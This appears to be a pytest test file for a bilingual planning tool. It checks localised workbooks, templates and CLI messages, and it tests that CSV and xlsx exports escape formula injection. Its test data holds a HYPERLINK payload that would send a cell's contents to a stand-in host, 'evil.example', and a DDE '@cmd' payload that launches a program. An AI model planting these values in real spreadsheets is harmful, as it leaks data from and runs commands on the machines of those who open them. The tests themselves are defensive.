"""For the planner's desk: plan.xlsx, formula escaping (xlsx and CSV), the input template, Chinese input
headers, sheet names and values, and `--lang zh|en` on the CLI."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from conftest import TINY_TABLES, write_scenario
from typer.testing import CliRunner

from linkage_opt import lang as L
from linkage_opt.cli.commands import app
from linkage_opt.inputs.load import load_scenario
from linkage_opt.schema import TABLE_LABELS, TABLE_ORDER, TABLES
from linkage_opt.solving.plan import escape_cell, read_plan_csv, unescape_cell, write_csv

ROOT = Path(__file__).resolve().parents[2]
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SHEETS_EN = [
    "Summary",
    "Coverage",
    "Allocations",
    "Providers",
    "Programs",
    "Unmet",
    "Committee",
    "Task sheets",
    "Rosters",
    "Org notices",
    "Donor notices",
]  # + action sheets
SHEETS_ZH = [
    "概览",
    "需求满足",
    "分配明细",
    "资源利用",
    "服务项目",
    "未满足需求",
    "党委摘要",
    "任务单",
    "人员排班",
    "机构通知",
    "捐赠去向",
]


def run(*args: str):
    return CliRunner().invoke(app, list(args), terminal_width=200)


def mutated(fn) -> dict:
    """The tiny scenario's tables after ``fn`` changed some cells."""
    tables = copy.deepcopy(TINY_TABLES)
    fn(tables)
    return tables


@pytest.fixture(scope="module")
def malicious_plan(tmp_path_factory):
    """A tiny scenario whose unit, organization and donor names are formula payloads, planned in zh and en."""
    tmp = tmp_path_factory.mktemp("desk")

    def mutate(t):
        t["units"][0]["name"] = MALICIOUS
        t["units"][1]["name"] = "+SUM(1,2)"
        t["units"][2]["name"] = "@cmd|' /C calc'!A0"
        t["organizations"][0]["name"] = "-2+3"

    cfg = write_scenario(tmp / "sc", tables=mutated(mutate))
    out = {}
    for lang in ("en", "zh"):
        r = run("plan", str(cfg), "--out", str(tmp / f"plan_{lang}"), "--baseline", "--lang", lang)
        assert r.exit_code == 0, r.output
        out[lang] = tmp / f"plan_{lang}"
    return cfg, out


def test_workbook_sheets_headers_types_in_both_languages(malicious_plan):
    _, plans = malicious_plan
    for lang, sheets in (("en", SHEETS_EN), ("zh", SHEETS_ZH)):
        wb = openpyxl.load_workbook(plans[lang] / "plan.xlsx")
        assert wb.sheetnames == sheets
        cov = wb[sheets[1]]
        header = [c.value for c in cov[1]]
        assert header[:3] == [L.column("need_id", lang), L.column("unit_id", lang), L.column("unit_name", lang)]
        assert cov.freeze_panes == "A2" and cov.auto_filter.ref and cov.auto_filter.ref.startswith("A1:")
        ratio_col = header.index(L.column("coverage_ratio", lang)) + 1
        ratios = [cov.cell(row=r, column=ratio_col).value for r in range(2, cov.max_row + 1)]
        assert ratios and all(isinstance(v, (int, float)) for v in ratios), "numbers must be stored as numbers"
        assert cov.conditional_formatting, "coverage ratio has a colour scale"
        coverage_csv = read_plan_csv(plans[lang] / "coverage.csv")
        assert len(ratios) == len(coverage_csv)
        assert sum(ratios) == pytest.approx(coverage_csv["coverage_ratio"].sum())
        summary = wb[sheets[0]]
        values = {r[0]: r[1] for r in summary.iter_rows(min_row=2, values_only=True) if r[0]}
        s = json.loads((plans[lang] / "summary.json").read_text(encoding="utf-8"))
        key = "Weighted coverage" if lang == "en" else "加权满足率"
        assert values[key] == pytest.approx(s["metrics"]["weighted_coverage"])
        if lang == "zh":
            assert wb[sheets[1]].cell(row=2, column=6).value in {"兜底保障", "基本服务", "提升服务"}


def test_workbook_never_holds_a_formula(malicious_plan):
    _, plans = malicious_plan
    wb = openpyxl.load_workbook(plans["en"] / "plan.xlsx")
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value and c.value[0] in "=+-@":
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate} lacks the quote prefix"
                    seen.add(c.value)
    assert MALICIOUS in seen and "+SUM(1,2)" in seen and "@cmd|' /C calc'!A0" in seen


def test_csv_cells_are_escaped_as_owasp_recommends_and_read_back(malicious_plan):
    _, plans = malicious_plan
    with open(plans["en"] / "coverage.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + MALICIOUS in cells and MALICIOUS not in cells
    assert not any(c and c[0] in "=+@" for c in cells)
    cov = read_plan_csv(plans["en"] / "coverage.csv")
    assert MALICIOUS in set(cov["unit_name"])
    # the independent checker reads the escaped CSVs back and still finds the plan valid
    r = run("check", str(plans["en"]))
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "'quoted", "''", "plain", "", "中文"])
def test_escape_round_trip(value, tmp_path):
    assert unescape_cell(escape_cell(value)) == value
    frame = pd.DataFrame({"name": [value], "n": [-3.5]})
    write_csv(frame, tmp_path / "x.csv")
    back = read_plan_csv(tmp_path / "x.csv", dtype={"name": str})
    assert back["name"].iat[0] == value and back["n"].iat[0] == -3.5


def test_report_and_workbook_can_be_rewritten_in_the_other_language(malicious_plan):
    _, plans = malicious_plan
    r = run("report", str(plans["en"]), "--lang", "zh", "--out", str(plans["en"] / "zh"))
    assert r.exit_code == 0, r.output
    assert openpyxl.load_workbook(plans["en"] / "zh" / "plan.xlsx").sheetnames == SHEETS_ZH
    html = (plans["en"] / "zh" / "report.html").read_text(encoding="utf-8")
    assert 'lang="zh' in html
    r = run("report", str(plans["en"] / "zh"))
    assert r.exit_code == 2 and "summary.json" in r.output


# -- the input template ------------------------------------------------------------------------------


def _fill(template: Path, data: Path, out: Path, lang: str) -> None:
    """Fill a template from the sample CSVs as a community worker would: values typed under the headers."""
    wb = openpyxl.load_workbook(template)
    for table in TABLE_ORDER:
        f = data / f"{table}.csv"
        if not f.exists():
            continue
        ws = wb[TABLE_LABELS[table] if lang == "zh" else table]
        spec = TABLES[table]
        headers = [c.value for c in ws[1]]
        canon = [next(col.name for col in spec.columns if h in (col.name, *col.aliases[:1])) for h in headers]
        with open(f, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        for i, row in enumerate(rows, start=3):
            for j, name in enumerate(canon, start=1):
                v = row.get(name, "")
                if v == "":
                    continue
                col = spec.column(name)
                if lang == "zh" and col.type == "enum":
                    v = {
                        "guaranteed": "兜底保障",
                        "basic": "基本服务",
                        "improvement": "提升服务",
                        "community": "社区",
                        "village": "村",
                        "funds": "资金",
                        "goods": "物资",
                    }[v]
                if lang == "zh" and col.type == "bool":
                    v = "是" if v.lower() == "true" else "否"
                if col.type in ("float", "int"):
                    v = float(v)
                ws.cell(row=i, column=j, value=v)
    wb.save(out)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_filled_template_loads_unchanged(lang, tmp_path):
    template = tmp_path / "blank.xlsx"
    r = run("template", str(template), "--lang", lang, "--config", str(ROOT / "configs" / "zhugen.yaml"))
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(template)
    tables = [TABLE_LABELS[t] if lang == "zh" else t for t in TABLE_ORDER]
    assert set(tables) <= set(wb.sheetnames)
    needs = wb[tables[1]]
    assert str(needs["A2"].value).startswith("# "), "the notes row is a comment row"
    validations = {str(d.sqref).split(":")[0]: d for d in needs.data_validations.dataValidation}
    tier_list = validations["E3"].formula1
    sheet, rng = tier_list.split("!")
    lists = wb[sheet.strip("'")]
    col = rng.split(":")[0].replace("$", "")[0]
    offered = [lists[f"{col}{i}"].value for i in range(1, 4)]
    assert offered == (["兜底保障", "基本服务", "提升服务"] if lang == "zh" else ["guaranteed", "basic", "improvement"])
    cat_list = validations["C3"].formula1.split("!")[1].split(":")[0].replace("$", "")[0]
    cfg = yaml.safe_load((ROOT / "configs" / "zhugen.yaml").read_text(encoding="utf-8"))
    assert [lists[f"{cat_list}{i}"].value for i in range(1, len(cfg["categories"]) + 1)] == list(cfg["categories"])

    filled = tmp_path / "filled.xlsx"
    _fill(template, ROOT / "data" / "zhugen", filled, lang)
    cfg["data"] = str(filled)
    (tmp_path / "filled.yaml").write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    r = run("validate", str(tmp_path / "filled.yaml"), "--lang", lang)
    assert r.exit_code == 0, r.output
    got = load_scenario(tmp_path / "filled.yaml")
    want = load_scenario(ROOT / "configs" / "zhugen.yaml")
    for table in TABLE_ORDER:
        pd.testing.assert_frame_equal(
            getattr(got, table).reset_index(drop=True),
            getattr(want, table).reset_index(drop=True),
            check_dtype=False,
            obj=table,
        )


CJK = re.compile(r"[\u4e00-\u9fff]")


def test_the_chinese_template_notes_are_the_catalogs_and_read_in_chinese():
    """Row 2 of each Chinese sheet: every column's note is its doc's Chinese from the catalog (backticks
    dropped), starred when required, and keeps no Latin words but the ids, keys and values its English doc
    quotes (`general`, `items`, ...) and upper-case placeholders (YYYY-MM-DD)."""
    from linkage_opt import i18n
    from linkage_opt.i18n import _catalog
    from linkage_opt.outputs.template import build_template

    zh = _catalog("zh")
    i18n.MISSES.clear()
    wb = openpyxl.load_workbook(io.BytesIO(build_template("zh")))
    en = openpyxl.load_workbook(io.BytesIO(build_template("en")))
    assert not i18n.MISSES, i18n.MISSES
    for table in TABLE_ORDER:
        cols = TABLES[table].columns
        row = [c.value for c in wb[TABLE_LABELS[table]][2]][: len(cols)]
        row_en = [c.value for c in en[table][2]][: len(cols)]
        assert len(row) == len(row_en) == len(cols), table
        for j, (c, text, text_en) in enumerate(zip(cols, row, row_en)):
            where = f"{table}.{c.name}"
            assert text and text_en and text != text_en, where
            want = ("# " if j == 0 else "") + ("* " if c.required else "") + zh[c.doc].replace("`", "")
            assert text == want, (where, text, want)
            assert CJK.search(text), (where, text)
            rest = text
            for v in sorted(re.findall(r"`([^`]+)`", c.doc), key=len, reverse=True):
                rest = rest.replace(v, " ")
            rest = re.sub(r"\b[A-Z]{2,}\b", " ", rest)
            assert not re.findall(r"[A-Za-z]{2,}", rest), (where, text)


def test_template_refuses_to_overwrite_and_wrong_suffix(tmp_path):
    (tmp_path / "x.xlsx").write_bytes(b"keep")
    r = run("template", str(tmp_path / "x.xlsx"))
    assert r.exit_code == 2 and "--force" in r.output
    assert (tmp_path / "x.xlsx").read_bytes() == b"keep"
    r = run("template", str(tmp_path / "x.csv"))
    assert r.exit_code == 2 and ".xlsx" in r.output


# -- Chinese input ------------------------------------------------------------------------------------


def test_chinese_headers_file_names_and_values_load_like_english(tmp_path):
    en = write_scenario(tmp_path / "en")
    zh_dir = tmp_path / "zh"
    cfg_zh = write_scenario(zh_dir)
    data = zh_dir / "data"
    zh_values = {
        "guaranteed": "兜底保障",
        "basic": "基本服务",
        "improvement": "提升服务",
        "community": "社区",
        "village": "村",
        "funds": "资金",
        "goods": "物资",
        "true": "是",
        "false": "否",
    }
    for table in TABLE_ORDER:
        f = data / f"{table}.csv"
        if not f.exists():
            continue
        frame = pd.read_csv(f, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        spec = TABLES[table]
        renamed = {c.name: c.aliases[0] for c in spec.columns if c.aliases and c.name in frame.columns}
        for c in spec.columns:
            if c.type in ("enum", "bool") and c.name in frame.columns:
                frame[c.name] = [zh_values.get(v, v) for v in frame[c.name]]
        frame = frame.rename(columns=renamed)
        f.unlink()
        frame.to_csv(data / f"{TABLE_LABELS[table]}.csv", index=False, encoding="utf-8")
    a, b = load_scenario(en), load_scenario(cfg_zh)
    for table in TABLE_ORDER:
        pd.testing.assert_frame_equal(getattr(a, table), getattr(b, table), check_dtype=False, obj=table)


def test_comment_rows_are_skipped_and_rows_keep_their_numbers(tmp_path):
    def mutate(t):
        t["needs"][1]["quantity"] = "lots"

    cfg = write_scenario(tmp_path / "sc", tables=mutated(mutate))
    f = tmp_path / "sc" / "data" / "needs.csv"
    lines = f.read_text(encoding="utf-8-sig").splitlines()
    f.write_text("\n".join([lines[0], "# notes: one row per need", *lines[1:]]) + "\n", encoding="utf-8")
    r = run("validate", str(cfg))
    assert r.exit_code == 2
    assert "row 4, column quantity" in r.output  # header 1, comment 2, first need 3, the bad one 4


# -- languages ---------------------------------------------------------------------------------------


def test_every_message_has_both_languages():
    # the words now live in the gettext catalog: every code's word has its Chinese there
    # (tests/test_i18n.py checks the whole catalog against the code)
    from linkage_opt.i18n import _catalog

    zh = _catalog("zh")
    for table in (L.COLUMNS, L.TIER_LABELS, L.KIND_LABELS):
        for key, msgid in table.items():
            assert zh.get(msgid), key
    for table in TABLE_ORDER:
        for c in TABLES[table].columns:
            assert c.doc and zh.get(c.doc), f"the catalog lacks the Chinese of {table}.{c.name}'s doc"
            assert c.aliases, f"{table}.{c.name} has no Chinese header"
    assert set(TABLE_LABELS) == set(TABLE_ORDER)


def test_cli_speaks_chinese(tiny_scenario, tmp_path, monkeypatch):
    r = run("validate", str(tiny_scenario), "--lang", "zh")
    assert r.exit_code == 0 and "通过" in r.output and "场景" in r.output
    monkeypatch.setenv("LINKAGE_OPT_LANG", "zh")
    r = run("validate", str(tiny_scenario))
    assert r.exit_code == 0 and "通过" in r.output
    monkeypatch.delenv("LINKAGE_OPT_LANG")
    r = run("validate", str(tiny_scenario), "--lang", "fr")
    assert r.exit_code == 2 and "en" in r.output and "zh" in r.output
    out = tmp_path / "p"
    r = run("plan", str(tiny_scenario), "--out", str(out), "--lang", "zh")
    assert r.exit_code == 0 and "加权满足率" in r.output and "方案已写入" in r.output
    r = run("explain", str(out), "--lang", "zh")
    assert r.exit_code == 0 and "增加能力的边际价值" in r.output
    r = run("check", str(out), "--lang", "zh")
    assert r.exit_code == 0 and "通过" in r.output


def test_input_problems_are_reported_in_chinese(tmp_path):
    def mutate(t):
        t["needs"][0]["quantity"] = "很多"
        t["needs"][1]["tier"] = "urgent"
        t["volunteers"][0]["home_unit"] = "U9"

    cfg = write_scenario(tmp_path / "sc", tables=mutated(mutate))
    r = run("validate", str(cfg), "--lang", "zh")
    assert r.exit_code == 2
    assert "发现 3 处输入问题" in r.output
    assert "第 2 行，列 quantity：不是数字" in r.output
    assert "不是允许的取值" in r.output and "未知的单位 'U9'" in r.output and "提示：" in r.output


def test_whatif_and_ahp_problems_read_in_chinese(tiny_scenario, tmp_path):
    from linkage_opt.analysis.whatif import apply_change, parse_change
    from linkage_opt.errors import ValidationError
    from linkage_opt.inputs.ahp import AhpInputError, load_pairwise

    scenario = load_scenario(tiny_scenario)
    texts = []
    for change in (
        "volunteers.hours**2",
        "volunteers.hourz*=2",
        "volunteers.hours*=x",
        "volunteers[skill=a].hours=1",
        "volunteers[volunteer_id=V9].hours=1",
        "volunteers.skills*=2",
        "volunteers.hours+=-100",
        "rules.budgett.amount=1",
        "period*=2",
    ):
        with pytest.raises(ValidationError) as info:
            apply_change(scenario, parse_change(change))
        texts += [t for p in info.value.problems for t in (p.message, p.hint)]
    for doc in (
        {
            "criteria": ["a", "b", "c"],
            "judgements": [["a", "bb", 3], ["a", "c", 12], ["a", "a", 2], ["a", "c", "x"], ["b"]],
        },
        {"criteria": ["a", "b"], "matrix": [[1, 3], [3, 1]]},
        {"criteria": ["a", "b"], "matrix": [[2, "y"], [1, 1]]},
        {"criteria": ["a", "b"], "matrix": [[1, 2]]},
        {"criteria": ["a", "a"], "matrix": [[1, 1], [1, 1]]},
        {"criteria": ["a", "b"]},
        {"matrix": []},
    ):
        f = tmp_path / "pairwise.yaml"
        f.write_text(yaml.safe_dump(doc), encoding="utf-8")
        with pytest.raises(AhpInputError) as info:
            load_pairwise(f)
        texts += info.value.problems
    L.MISSES.clear()
    zh = [L.render(t, "zh") for t in texts if t]
    assert not L.MISSES, L.MISSES
    assert len(zh) > 20


def test_every_help_text_has_chinese_and_help_speaks_it(monkeypatch):
    import inspect

    import typer

    def walk(a):
        yield from a.registered_commands
        for g in a.registered_groups:
            yield from walk(g.typer_instance)

    missing = []
    for c in walk(app):
        texts = [c.help or inspect.getdoc(c.callback)]
        texts += [
            p.default.help
            for p in inspect.signature(c.callback).parameters.values()
            if isinstance(p.default, (typer.models.OptionInfo, typer.models.ArgumentInfo)) and p.default.help
        ]
        from linkage_opt.i18n import _catalog

        missing += [t for t in texts if t and not _catalog("zh").get(t)]
    assert not missing, missing
    r = run("plan", "--help", "--lang", "zh")
    assert r.exit_code == 0 and "求解场景" in r.output and "选项" in r.output and "显示本帮助并退出" in r.output
    r = run("plan", "--help")  # and back to English in the same process
    assert "Solve a scenario" in r.output and "Options" in r.output and "选项" not in r.output
    monkeypatch.setenv("LINKAGE_OPT_LANG", "zh")
    r = run("runs", "list", "--help")
    assert "所有已记录的运行" in r.output


def test_plan_folder_and_files_get_the_usual_permissions(malicious_plan):
    import os
    import stat

    _, plans = malicious_plan
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(plans["en"].stat().st_mode) == 0o777 & ~umask
    for f in ("plan.xlsx", "report.html", "coverage.csv"):
        assert stat.S_IMODE((plans["en"] / f).stat().st_mode) == 0o666 & ~umask, f


def test_big_tables_are_capped_in_the_workbook_and_said_so(malicious_plan, monkeypatch):
    import linkage_opt.outputs.workbook as W
    from linkage_opt.solving.plan import Plan

    _, plans = malicious_plan
    plan = Plan.read(plans["en"])
    n = len(plan.allocations)
    assert n > 3
    monkeypatch.setattr(W, "MAX_SHEET_ROWS", 3)
    wb = openpyxl.load_workbook(io.BytesIO(W.build_workbook(plan, None, "en")))
    assert wb["Allocations"].max_row == 1 + 3
    notes = [r[0] for r in wb["Summary"].iter_rows(values_only=True) if r[0] and "has them all" in str(r[0])]
    assert any(f"of {n:,} rows; allocations.csv" in t for t in notes), notes
